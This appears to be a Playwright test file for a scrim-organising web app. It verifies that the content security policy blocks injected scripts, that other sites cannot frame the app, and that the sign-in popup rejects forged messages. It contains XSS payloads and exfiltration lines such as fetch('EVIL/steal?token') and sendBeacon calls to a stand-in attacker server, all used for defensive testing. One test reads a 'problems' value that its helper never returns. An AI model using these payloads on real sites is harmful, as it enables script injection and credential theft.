import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import type { Page } from 'playwright-core';
import { browserOf, createUser, type Person } from './test-user';
import { openSite, type Site, type TestBrowserContext } from './test-site';
import { untilTrue } from './until-true';

let site: Site;
let admin: Person;
let evil: Server;
/** Messages that reached another site's page. */
const caught: string[] = [];
beforeAll(async () => {
  site = await openSite();
  admin = await createUser(site, 'Root', { admin: true });
  evil = createServer((request, response) => {
    caught.push(request.url!);
    response
      .writeHead(200, {
        'content-type': request.url!.endsWith('.js') ? 'text/javascript' : 'text/html',
        'access-control-allow-origin': '*',
      })
      .end(request.url!.endsWith('.js') ? 'window.foreign = true' : '<!doctype html><title>evil</title>');
  });
  await new Promise<void>((resolve) => {
    evil.listen(0, '127.0.0.1', resolve);
  });
}, 60_000);
afterAll(async () => {
  await site?.close();
  evil?.close();
});
const evilUrl = () => `http://127.0.0.1:${(evil.address() as AddressInfo).port}`;

/** Records what the content security policy of a page blocked. */
async function watched(
  visitor: TestBrowserContext,
): Promise<{ page: Page; refused: () => Promise<string[]>; said: string[] }> {
  const said: string[] = [];
  await visitor.context.addInitScript({
    content: `window.refused = []; addEventListener('securitypolicyviolation', (event) => refused.push([event.effectiveDirective, event.blockedURI, event.sourceFile].join(' ')));`,
  });
  visitor.context.on('console', (message) => {
    if (/Content.Security.Policy|Cross-Origin-Opener-Policy|Permissions.Policy/i.test(message.text()))
      said.push(`${message.page()?.url()}: ${message.text()}`);
  });
  return { page: visitor.page, refused: () => visitor.page.evaluate<string[]>('window.refused'), said };
}

test('no page of ours loads anything its policy blocks, in dark or light', async () => {
  const scrim = await admin.call<{ _id: string }>('POST', '/scrims', {
    title: 'Safe Five',
    region: 'NA',
    gameStartTime: new Date(Date.now() + 3_600_000).toISOString(),
  });
  const { page, refused, said } = await watched(await browserOf(site, admin));
  const requests: string[] = [];
  const pages = [
    ['/', ''],
    ['/scrims', ''],
    [`/scrims/${scrim._id}`, 'Safe Five'],
    [`/scrims/${scrim._id}/edit`, ''],
    ['/scrims/new', ''],
    ['/users/Root?region=NA&tagline=tag', 'Root'],
    ['/settings', ''],
    ['/admin/dashboard', ''],
    ['/admin/bans', ''],
    ['/guide', ''],
    ['/privacy-policy', ''],
    ['/terms-of-service', ''],
    ['/never/was', "doesn't exist"],
  ] as const;
  for (const theme of ['dark', 'light'] as const) {
    await page.emulateMedia({ colorScheme: theme });
    for (const [path, heading] of theme === 'dark' ? pages : pages.slice(0, 3)) {
      await page.goto(path);
      await page.locator('h1').filter({ hasText: heading }).first().waitFor();
      await page.waitForLoadState('networkidle');
      for (const violation of await refused()) requests.push(`${path} (${theme}): ${violation}`);
    }
  }
  expect([...requests, ...said]).toEqual([]);
}, 120_000);

test('neither do the sign-up and the API document', async () => {
  const visitor = await site.newContext();
  const { page, refused, said } = await watched(visitor);
  const requests: string[] = [];
  await page.goto('/signup');
  await page.getByRole('heading', { name: 'Who are you in the game?' }).waitFor();
  requests.push(...(await refused()));
  await page.goto('/api/docs');
  await page.getByText('/api/auth/tokens', { exact: true }).first().waitFor();
  requests.push(...(await refused()));
  expect([...requests, ...said]).toEqual([]);
}, 60_000);

describe('an injected script', () => {
  const TRIES: readonly [what: string, directive: string, script: string][] = [
    [
      'in the page itself',
      'script-src-elem',
      "document.body.append(Object.assign(document.createElement('script'), { textContent: 'window.ran = true' }))",
    ],
    [
      'on an element',
      'script-src-attr',
      "document.body.insertAdjacentHTML('beforeend', '<img src=x onerror=\"window.ran = true\">')",
    ],
    [
      'in an address',
      'script-src-elem',
      "document.body.append(Object.assign(document.createElement('a'), { id: 'trap', href: 'javascript:window.ran = true' })); trap.click()",
    ],
    [
      'from a blob',
      'script-src-elem',
      "document.body.append(Object.assign(document.createElement('script'), { src: URL.createObjectURL(new Blob(['window.ran = true'])) }))",
    ],
    [
      'from a data address',
      'script-src-elem',
      "document.body.append(Object.assign(document.createElement('script'), { src: 'data:text/javascript,window.ran = true' }))",
    ],
    [
      'from elsewhere',
      'script-src-elem',
      "document.body.append(Object.assign(document.createElement('script'), { src: 'EVIL/x.js' }))",
    ],
    [
      'as a module from elsewhere',
      'script-src-elem',
      "document.body.append(Object.assign(document.createElement('script'), { type: 'module', src: 'EVIL/x.js' }))",
    ],
    ['as a worker from a blob', 'worker-src', "try { new Worker(URL.createObjectURL(new Blob(['']))) } catch {}"],
    ['calling home', 'connect-src', "fetch('EVIL/steal?token').catch(() => 0)"],
    ['calling home by a beacon', 'connect-src', "navigator.sendBeacon('EVIL/steal?beacon', 'x')"],
    ['calling home by a socket', 'connect-src', "try { new WebSocket('EVIL/steal'.replace('http', 'ws')) } catch {}"],
    ['calling home by a picture', 'img-src', "new Image().src = 'EVIL/steal?picture'"],
    [
      'calling home by a form',
      'form-action',
      "const form = Object.assign(document.createElement('form'), { action: 'EVIL/steal?form', method: 'post' }); document.body.append(form); form.submit()",
    ],
    [
      'moving our addresses',
      'base-uri',
      "document.head.append(Object.assign(document.createElement('base'), { href: 'EVIL/' }))",
    ],
    [
      'showing another page in ours',
      'frame-src',
      "document.body.append(Object.assign(document.createElement('iframe'), { src: 'EVIL/frame' }))",
    ],
    [
      'showing an object',
      'object-src',
      "document.body.append(Object.assign(document.createElement('object'), { data: 'EVIL/object' }))",
    ],
  ];
  let page: Page;
  beforeAll(async () => {
    ({ page } = await watched(await site.newContext()));
  });
  test.each(TRIES)('%s does nothing (control for the tests above)', async (_, directive, script) => {
    await page.goto('/guide');
    const before = caught.length;
    await page.evaluate(script.replaceAll('EVIL', evilUrl()));
    while (!(await page.evaluate(`window.refused.some((one) => one.startsWith('${directive}'))`)));
    expect([await page.evaluate('[window.ran, window.foreign].some(Boolean)'), caught.slice(before)]).toEqual([
      false,
      [],
    ]);
  });
});

test('other pages can neither frame ours nor keep a handle on it', async () => {
  const { page, context } = await site.newContext();
  await page.goto(evilUrl());
  await page.setContent(`<iframe src="${site.url}/scrims"></iframe>`);
  const frame = () => page.frames().find((one) => one !== page.mainFrame());
  await untilTrue(page, "document.querySelector('iframe').contentDocument === null");
  expect(await frame()!.content()).not.toContain('id="root"');

  const [opened] = await Promise.all([
    context.waitForEvent('page'),
    page.evaluate(`void (window.ours = window.open(${JSON.stringify(`${site.url}/guide`)}))`),
  ]);
  await opened.getByRole('heading', { name: 'User Guide' }).waitFor();
  await untilTrue(page, 'window.ours.closed');
  expect(await opened.evaluate('window.opener')).toBeNull();
});

describe('the sign-in popup', () => {
  const logIn = async (page: Page) => {
    // A closed popup is detected within half a second.
    const idle = page.getByRole('banner').locator('button:not([aria-busy])', { hasText: 'Log In' });
    const [popup] = await Promise.all([page.waitForEvent('popup'), idle.click()]);
    await popup.getByLabel('E-mail address').waitFor();
    return popup;
  };
  /** A page that waits for its popup; records its sign-in requests. */
  const waiting = async () => {
    const visitor = await site.newContext();
    const requests: unknown[] = [];
    visitor.page.on('request', (request) => {
      if (request.url().endsWith('/api/auth/login')) requests.push(request.postDataJSON());
    });
    const start = visitor.context.waitForEvent('request', (request) => request.url().includes('/api/auth/oidc/start?'));
    await visitor.page.goto('/guide');
    const popup = await logIn(visitor.page);
    return {
      ...visitor,
      requests: requests,
      popup,
      word: new URL((await start).url()).searchParams.get('state') ?? '',
    };
  };
  const finish = async (popup: Page, email: string) => {
    const closed = popup.waitForEvent('close');
    await popup.getByLabel('E-mail address').fill(email);
    await popup.getByRole('button', { name: 'Continue' }).click();
    await closed;
  };
  const signedIn = (page: Page) => page.getByRole('button', { name: 'More options', exact: true }).waitFor();
  const lie = (state?: string) => ({
    type: 'oidc',
    uid: 'sandbox|evil',
    email: 'evil@players.test',
    ...(state && { state }),
  });

  test('keeps its opener under our policies, and signs in', async () => {
    await createUser(site, 'Opener');
    const { page, popup, problems } = await waiting();
    expect((await page.request.get('/guide')).headers()['cross-origin-opener-policy']).toBe('same-origin-allow-popups');
    expect(await popup.evaluate('window.opener !== null')).toBe(true);
    await finish(popup, 'opener@players.test');
    await signedIn(page);
    expect(problems).toEqual([]);
  });

  test('redirected to another site it can send us nothing, even with the right secret', async () => {
    await createUser(site, 'Victim');
    const { page, context, requests, popup, word: state } = await waiting();
    expect(state).toMatch(/^[0-9a-f]{32}$/);
    await popup.goto(evilUrl());
    for (const word of [state, '', 'x'])
      await popup.evaluate(
        `for (const target of ['*', ${JSON.stringify(site.url)}]) window.opener.postMessage(${JSON.stringify(lie(word))}, target)`,
      );
    await popup.evaluate(`new BroadcastChannel('muster-oidc').postMessage(${JSON.stringify(lie(state))})`);
    // Another tab of ours, without this popup's secret.
    const tab = await context.newPage();
    await tab.goto('/guide');
    await tab.evaluate(
      `for (const word of [{}, { state: 'x' }]) new BroadcastChannel('muster-oidc').postMessage({ ...${JSON.stringify(lie())}, ...word })`,
    );
    await tab.close();
    await page.bringToFront();
    await page.evaluate(
      `for (const word of [{}, { state: 'x' }, { state: null }]) window.postMessage({ ...${JSON.stringify(lie())}, ...word }, location.origin)`,
    );
    // Messages arrive in order: once a later one of our own has arrived, the earlier ones have been handled.
    await page.evaluate(
      "new Promise((heard) => { addEventListener('message', ({ data }) => data === 'last' && heard()); window.postMessage('last', location.origin); })",
    );
    expect(requests).toEqual([]);
    await popup.close();
    await finish(await logIn(page), 'victim@players.test');
    await signedIn(page);
    expect(requests).toEqual([{ uid: expect.any(String), email: 'victim@players.test' }]);
  });

  test('can be opened again after closing it', async () => {
    await createUser(site, 'Closer');
    const { page, popup, requests } = await waiting();
    await popup.close();
    await finish(await logIn(page), 'closer@players.test');
    await signedIn(page);
    expect(requests).toHaveLength(1);
  });

  test('shows a rejection and starts no session', async () => {
    const { page, popup, requests } = await waiting();
    const closed = popup.waitForEvent('close');
    await popup.getByRole('link', { name: 'Cancel' }).click();
    await closed;
    await page.getByText('Sign-in was cancelled').waitFor();
    expect([requests, await page.evaluate("localStorage.getItem('jwtToken')")]).toEqual([[], null]);
  });
});
